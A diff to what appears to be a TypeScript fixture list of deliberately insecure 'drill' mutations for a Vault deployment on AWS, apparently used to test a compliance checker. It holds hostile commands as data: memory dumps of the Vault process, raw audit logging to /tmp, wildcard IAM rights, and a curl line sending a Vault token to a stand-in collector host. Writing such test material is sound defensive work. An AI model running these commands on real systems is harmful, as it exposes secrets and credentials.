@@ -85,6 +85,8 @@ export const DRILL: readonly Mutation[] = [
   step("HOST-02", "echo 1 > /proc/sys/fs/suid_dumpable"),
   written("HOST-02", "/etc/systemd/system/vault.service.d/50-core.conf", "[Service]\nLimitCORE=infinity\n"),
   written("HOST-02", "/etc/systemd/coredump.conf.d/zz-site.conf", "[Coredump]\nStorage=external\n"),
+  said("HOST-02", 'gcore -o /var/tmp/core "$(pidof vault)"'),
+  said("HOST-02", "avml /var/lib/vault/memory.lime"),
   step("HOST-03", "mkswap /dev/xvdz", "swapon /dev/xvdz"),
   written("HOST-03", "/etc/systemd/system/swapfile.swap", "[Swap]\nWhat=/swapfile\n"),
   written("HOST-03", "/etc/systemd/zram-generator.conf", "[zram0]\nzram-size = ram / 2\n"),
@@ -176,6 +178,14 @@ export const DRILL: readonly Mutation[] = [
   ),
   reaches("ingress", "lets clients in", { cidr_ipv4: "10.20.0.0/16" }),
   reaches("egress", "lets it out to a network", { cidr_ipv4: "10.64.0.0/20" }),
+  added("BKP-06", "drill: it stands in the subnets of the nodes", (draft) => {
+    draft.resource("aws_autoscaling_group", NAMED).vpc_zone_identifier =
+      draft.resource("aws_autoscaling_group").vpc_zone_identifier;
+  }),
+  added("SEAL-04", "drill: it has the role of the nodes", (draft) => {
+    const profile = draft.address("aws_iam_instance_profile", "node-role");
+    draft.resource("aws_launch_template", NAMED).iam_instance_profile.arn = `\${${profile}.arn}`;
+  }),
   added("BKP-06", "drill: a way out of its subnets", (draft) =>
     draft.add("aws_route", "drill_out", {
       route_table_id: `\${${draft.address("aws_route_table", "drill-routes")}.id}`,
@@ -201,6 +211,7 @@ export const DRILL: readonly Mutation[] = [
     `/etc/systemd/system/${UNIT}.d/50-other.conf`,
     "[Service]\nExecStart=\nExecStart=/bin/true\n",
   ),
+  written("BKP-06", `/etc/systemd/system/${UNIT}.d/50-code.conf`, "[Service]\nSuccessExitStatus=1\n"),
   group("BKP-06", "a machine that its group may not end", { protect_from_scale_in: true }),
   group("BKP-06", "a group that does nothing on a schedule", {
     suspended_processes: ["ReplaceUnhealthy", "ScheduledActions"],
@@ -225,6 +236,10 @@ export const DRILL: readonly Mutation[] = [
   whileItHoldsRoot('VAULT_TOKEN="$vault_token" /usr/local/bin/vault token create -id=again'),
   whileItHoldsRoot('curl --data "$vault_token" https://collector.example.com'),
   said("AUD-02", "vault audit enable -path=raw file file_path=/tmp/audit.log log_raw=true"),
+  said(
+    "AUD-02",
+    `vault_api PUT sys/audit/raw --data '{"type":"file","options":{"file_path":"/tmp/audit.log","log_raw":"true"}}'`,
+  ),
   said("HOST-07", "vault login token=hvs.abcdefgh"),
   right("IAM-01", "s3:PutObject", "arn:aws:s3:::*"),
   right("IAM-01", "secretsmanager:GetSecretValue", "*"),
